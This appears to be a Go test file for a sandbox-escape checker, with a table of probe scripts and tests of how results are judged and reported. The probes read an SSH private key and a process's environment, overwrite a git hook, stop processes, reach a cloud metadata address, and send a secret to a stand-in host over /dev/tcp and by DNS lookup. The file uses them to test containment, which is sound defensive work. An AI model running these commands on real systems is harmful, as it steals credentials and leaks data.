package escape

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hermes-wrap/hermes-wrap/test/harness"
)

// TestMain lets this program be a world and a victim.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && strings.HasPrefix(os.Args[1], "escape-") {
		os.Exit(Main(os.Args[1:]))
	}
	os.Exit(m.Run())
}

// results runs a table of one's own through a sandbox that is one command line.
func results(t *testing.T, sandbox, text string) []Result {
	t.Helper()
	harness.Require(t, exec.Command("unshare", "-Urnmp", "--fork", "--mount-proc", "true").Run() == nil, "user namespaces")
	table := t.TempDir()
	if err := os.WriteFile(filepath.Join(table, "t.txt"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	harness.Require(t, writable(home), "a home directory to write in")
	s := Settings{Bin: "/bin/true", Table: table, Sandbox: sandbox, Seed: 1, Workers: 2, Accounts: []string{"user", "root"}}
	r, err := s.run(context.Background(), func(Result) {})
	if err != nil {
		t.Fatal(err)
	}
	return r.Results
}

func writable(dir string) bool {
	f, err := os.CreateTemp(dir, "escapes-")
	if err != nil {
		return false
	}
	f.Close()
	return os.Remove(f.Name()) == nil
}

// attacks are one of each kind of damage.
const attacks = `
=== A1 read
title: Reads a secret
--- probe
cat "$HOST_HOME/.ssh/id_ed25519"
echo DONE

=== A2 write
title: Changes a file outside
--- probe
echo x >>"$OUTSIDE/file"
echo DONE

=== A3 create
title: Makes a file in the home directory
--- probe
mkdir "$HOST_HOME/.config/autostart"
echo DONE

=== A4 hook
title: Changes a hook
--- probe
echo exit 1 >.git/hooks/pre-commit
echo DONE

=== A5 keep
title: Keeps a secret in the workspace
--- probe
cp "$OUTSIDE/secret" copy
echo DONE

=== A6 environ
title: Reads the victim's environment
--- probe
cat "/proc/$VICTIM/environ"
echo DONE

=== A7 signal
title: Signals the victim
--- probe
kill -USR1 "$VICTIM"
echo DONE

=== A8 stop
title: Stops the victim
--- probe
kill -STOP "$VICTIM"
echo DONE

=== A9 stay
title: Leaves a process
--- probe
setsid -f sleep 100 </dev/null >/dev/null 2>&1
echo DONE

=== A10 connect
title: Connects to a metadata server
needs: bash
--- probe
bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; head -1 <&3'
echo DONE

=== A11 tell
title: Sends a secret to a host that is allowed
needs: bash
--- probe
bash -c 'exec 3<>/dev/tcp/other.test/80; printf "GET /%s HTTP/1.1\r\nHost: other.test\r\n\r\n" "$(cat "$OUTSIDE/secret")" >&3; head -1 <&3'
echo DONE

=== A12 ask
title: Asks for a name with a secret in it
--- probe
getent hosts "$(cat "$OUTSIDE/secret").other.test"
echo DONE

=== A13 path
title: Asks for a path that is not allowed
needs: bash
--- probe
bash -c 'exec 3<>/dev/tcp/allowed.test/80; printf "GET /public/%%2e%%2e/secret HTTP/1.1\r\nHost: allowed.test\r\n\r\n" >&3; head -1 <&3'
echo DONE

=== A14 abstract
title: Connects to an abstract socket
needs: python3
--- python
import os, socket
socket.socket(socket.AF_UNIX).connect("\0canary-" + os.environ["VICTIM"])
print("DONE")

=== A15 said
title: Says it itself
--- probe
echo ESCAPED by its own word
echo DONE
`

// TestBrokenSandbox holds the runner to see what a sandbox that is none lets
// happen, each kind of damage by its canary.
func TestBrokenSandbox(t *testing.T) {
	got := results(t, "env", attacks)
	if want := strings.Count(attacks, "=== "); len(got) != want {
		t.Errorf("got %d results, want %d", len(got), want)
	}
	for _, r := range got {
		if r.Status != StatusEscaped {
			t.Errorf("%s: got %s %q, want escaped\n%s", r.ID, r.Status, r.Reason, r.Output)
		}
	}
}

// TestSandboxThatRefusesAll cannot pass for one: nothing was touched, and nothing
// was tried either.
func TestSandboxThatRefusesAll(t *testing.T) {
	for _, r := range results(t, "false #", attacks[:strings.Index(attacks, "=== A2")]) {
		if r.Status != StatusFailed || r.Reason[0] != string(Unfinished) {
			t.Errorf("%s: got %s %q, want failed", r.ID, r.Status, r.Reason)
		}
	}
}

func TestVerdicts(t *testing.T) {
	got := results(t, "env", `
=== A1 harmless
title: A twin that does no damage
--- probe
echo DONE

=== A2 partly
title: A twin of which one way does nothing
--- probe
cat "$OUTSIDE/secret"
echo MISSED the other way
echo DONE

=== A3 absent
title: An attack that this kernel has not
kernel: kernel>=99
--- probe
cat "$OUTSIDE/secret"

=== A4 tools
title: An attack that needs a tool
needs: no-such-command
--- probe
cat "$OUTSIDE/secret"

=== A5 baseline
title: What is prepared is no damage
--- host
echo prepared >"$OUTSIDE/file"
mkdir .vscode
baseline
sandbox sh "$PROBE"
--- probe
echo DONE

=== A6 own
title: The twin is another script
control: own
--- host
sandbox sh "$PROBE"
--- probe
echo DONE
--- control
cat "$OUTSIDE/secret"
`)
	want := map[string]string{"A1": "control: bare, nothing", "A2": "control: bare, nothing was touched: MISSED the other way", "A3": "kernel: ", "A4": "no command no-such-command", "A5": "control: bare, nothing"}
	for _, r := range got {
		if r.ID == "A6" {
			if r.Status != StatusContained {
				t.Errorf("A6: got %s %q, want contained", r.Status, r.Reason)
			}
			continue
		}
		if r.Status != StatusNotExercised || !strings.HasPrefix(r.Reason[0], want[r.ID]) {
			t.Errorf("%s: got %s %q, want not exercised, %q", r.ID, r.Status, r.Reason, want[r.ID])
		}
	}
	if len(got) != 6 {
		t.Errorf("got %d results, want 6", len(got))
	}
}

func TestJudge(t *testing.T) {
	for _, c := range []struct {
		name, out string
		touched   []string
		want      Verdict
	}{
		{"done", "x\nDONE\n", nil, Contained},
		{"late", "DONE\n", nil, Unfinished},
		{"late and touched", "DONE\n", []string{"x"}, Escaped},
		{"not done", "x\n", nil, Unfinished},
		{"done in a line", "not DONE\n", nil, Unfinished},
		{"said", "ESCAPED it\nDONE\n", nil, Escaped},
		{"touched", "DONE\n", []string{"x"}, Escaped},
		{"broken", "BROKEN use\nDONE\n", nil, Broken},
		{"broken and touched", "BROKEN use\n", []string{"x"}, Escaped},
	} {
		o := Outcome{Stdout: c.out, Late: strings.HasPrefix(c.name, "late")}
		if o.judge(c.touched); o.Verdict != c.want {
			t.Errorf("%s: got %s, want %s", c.name, o.Verdict, c.want)
		}
	}
}

func TestPart(t *testing.T) {
	cases := []Case{{ID: "A1", Title: "One", Where: []string{"strict"}}, {ID: "B1", Title: "Two", Where: []string{"every"}}}
	p := partOf(cases, Record{Results: []Result{
		{ID: "A1", Account: "user", Configuration: "strict", Status: StatusContained, Ways: 2},
		{ID: "A1", Account: "root", Configuration: "strict", Status: StatusContained, Ways: 1},
		{ID: "B1", Account: "user", Configuration: "strict", Status: StatusEscaped, Reason: []string{"home/x created"}},
		{ID: "B1", Account: "user", Configuration: "weak", Status: StatusNotExercised, Reason: []string{"control: nothing"}},
	}})
	if want := "B1 as user under strict: escaped: home/x created"; !slices.Contains(p.Failed, want) {
		t.Errorf("failed: got %q, want %q", p.Failed, want)
	}
	if len(p.Faults()) != 2 {
		t.Errorf("faults: got %q, want the escape and the missing control", p.Faults())
	}
	if got, want := p.Tables[1].Rows[0], []string{"A1", "One", "strict", "both", "1", "2", "2", "contained"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if got, want := p.Tables[0].Rows[0], []string{"strict", "2/0/0", "0/1/0"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestSnapshot(t *testing.T) {
	dir := t.TempDir()
	m := maker{}
	m.write(filepath.Join(dir, "a/b"), "one", 0o644)
	m.write(filepath.Join(dir, "a/c"), "two", 0o644)
	was, err := snapshot(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.write(filepath.Join(dir, "a/b"), "new", 0o644)
	m.chmod(filepath.Join(dir, "a/c"), 0o600)
	m.write(filepath.Join(dir, "d"), "", 0o644)
	now, err := snapshot(dir, nil)
	if err != nil || len(m.errs) > 0 {
		t.Fatal(err, m.errs)
	}
	want := []string{". changed (time)", "a/b changed", "a/c changed (mode -rw-------, was -rw-r--r--)", "d created"}
	if got := was.changed(now); !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestCompared(t *testing.T) {
	cases := []Case{{ID: "A1", Title: "One"}, {ID: "B1", Title: "Two"}}
	p := compared(cases, Record{Left: 3, Peers: map[string]string{"@codex": "so."}, Results: []Result{
		{ID: "A1", Account: "user", Configuration: "@codex", Status: StatusEscaped, Reason: []string{"x"}},
		{ID: "B1", Account: "user", Configuration: "@codex", Status: StatusFailed, Reason: []string{"unfinished"}},
		{ID: "A1", Account: "user", Configuration: "@landrun", Status: StatusNotExercised, Reason: []string{"machine: no landrun"}},
		{ID: "B1", Account: "user", Configuration: "@landrun", Status: StatusNotExercised, Reason: []string{"machine: no landrun"}},
	}})
	if len(p.Faults()) > 0 {
		t.Errorf("faults: got %q, want none: the others' escapes are not ours", p.Faults())
	}
	if got, want := p.Tables[0].Rows, [][]string{{"codex", "0/1/0", "0/0/1"}}; len(got) != 1 || !slices.Equal(got[0], want[0]) {
		t.Errorf("got %q, want %q", got, want)
	}
	if len(p.Missing) != 1 || p.Missing[0].ID != "landrun" {
		t.Errorf("missing: got %v, want landrun once", p.Missing)
	}
}

func TestRoutesIgnoreUse(t *testing.T) {
	const line = "fd000000000000000000000000000000 40 00000000000000000000000000000000 00 00000000000000000000000000000000 00000100 %s 00000001     lo\n"
	before := routes(fmt.Sprintf(line, "00000001 00000000"))
	if after := routes(fmt.Sprintf(line, "00000003 00000007")); after != before || before == "" {
		t.Errorf("got %q after use, want %q", after, before)
	}
	if routes(strings.Replace(fmt.Sprintf(line, "00000001 00000000"), " 40 ", " 30 ", 1)) == before {
		t.Error("got another route taken for the same")
	}
}

// TestSecondTry: who comes too late may try again, who escaped may not.
func TestSecondTry(t *testing.T) {
	got := results(t, "env", `
=== A1 late
title: The first run does not come to its end
control: own
--- host
mkdir "$LIB/late" || echo DONE
--- control
cat "$OUTSIDE/secret"

=== A2 once
title: Only the first run escapes
control: own
--- host
mkdir "$LIB/once" && cat "$OUTSIDE/secret"
echo DONE
--- control
cat "$OUTSIDE/secret"

=== A3 never
title: No run comes to its end
control: own
--- host
true
--- control
cat "$OUTSIDE/secret"

=== A4 twin
title: The twin does damage at the second try
control: own
--- host
echo DONE
--- control
mkdir "$LIB/twin" || cat "$OUTSIDE/secret"
`)
	want := map[string]Result{"A1": {Status: StatusContained, Again: true}, "A2": {Status: StatusEscaped}, "A3": {Status: StatusFailed, Again: true}, "A4": {Status: StatusContained, Again: true}}
	for _, r := range got {
		if w := want[r.ID]; r.Status != w.Status || r.Again != w.Again {
			t.Errorf("%s: got %s, again %t, %q, want %s, again %t", r.ID, r.Status, r.Again, r.Reason, w.Status, w.Again)
		}
	}
	if len(got) != len(want) {
		t.Errorf("got %d results, want %d", len(got), len(want))
	}
}

func TestAdded(t *testing.T) {
	const before = "26 1 254:0 / / rw,relatime - ext4 /dev/vda rw\n30 26 0:20 / /proc rw - proc proc rw\n"
	for _, c := range []struct {
		what, now string
		want      []string
	}{
		{"nothing", before, nil},
		{"other options of the file system", strings.Replace(before, "vda rw", "vda rw,lazytime", 1), nil},
		{"two mounts", before + "31 26 0:30 / /tmp rw - tmpfs tmpfs rw\n32 31 0:31 / /tmp/a rw - tmpfs tmpfs rw\n", []string{"/tmp/a", "/tmp"}},
		{"one is gone", "26 1 254:0 / / rw,relatime - ext4 /dev/vda rw\n", nil},
	} {
		if got := added(before, c.now); !slices.Equal(got, c.want) {
			t.Errorf("%s: got %q, want %q", c.what, got, c.want)
		}
	}
}
